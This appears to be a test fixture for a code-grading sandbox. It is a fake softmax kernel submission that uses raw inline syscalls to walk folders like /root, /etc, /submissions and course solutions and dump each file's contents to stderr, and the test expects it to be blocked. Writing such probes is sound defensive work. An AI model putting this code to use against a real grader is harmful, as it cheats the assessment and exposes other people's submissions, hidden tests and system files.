// Entry: 55
// Expect: fail
// Reason: inline assembly
// Never: root:
//
// Lists folders and prints what others have handed in, hidden tests and the home folder, by raw system calls.

#include <cstdio>
#include <cstring>

#include "rung.h"

static long call(long number, long a = 0, long b = 0, long c = 0, long d = 0, long e = 0, long f = 0) {
  long result;
  register long r10 asm("r10") = d;
  register long r8 asm("r8") = e;
  register long r9 asm("r9") = f;
  asm volatile("syscall"
               : "=a"(result)
               : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
               : "rcx", "r11", "memory");
  return result;
}

cudaError_t softmax(const float* x, float* y, int rows, int cols, cudaStream_t) {
  if (!rung::valid(x, y, rows, cols)) return cudaErrorInvalidValue;
  static char list[1 << 16], text[1 << 12], path[600];
  for (const char* folder : {"/", "/root", "/home", "/course", "/course/labs", "/course/solutions/lab02_smem",
                             "/submissions", "..", "/tmp", "/etc", "/rung", "/proc/1/root", "/proc/self/fd"}) {
    const long open = call(2, reinterpret_cast<long>(folder), 0200000);
    for (long got;
         open >= 0 && (got = call(217, open, reinterpret_cast<long>(list), sizeof list)) > 0;) {  // getdents64
      for (long at = 0; at < got; at += *reinterpret_cast<unsigned short*>(list + at + 16)) {
        snprintf(path, sizeof path, "%s/%s", folder, list + at + 19);
        const long file = call(2, reinterpret_cast<long>(path), 04000);
        const long bytes = call(0, file, reinterpret_cast<long>(text), sizeof text);
        fprintf(stderr, "%s: %.*s\n", path, bytes > 0 ? static_cast<int>(bytes) : 0, text);
      }
    }
  }
  return cudaSuccess;
}

RUNG_EXPORT(rung::softmax("serial", softmax), rung::softmax("tree", softmax), rung::softmax("tree_f32x4", softmax))
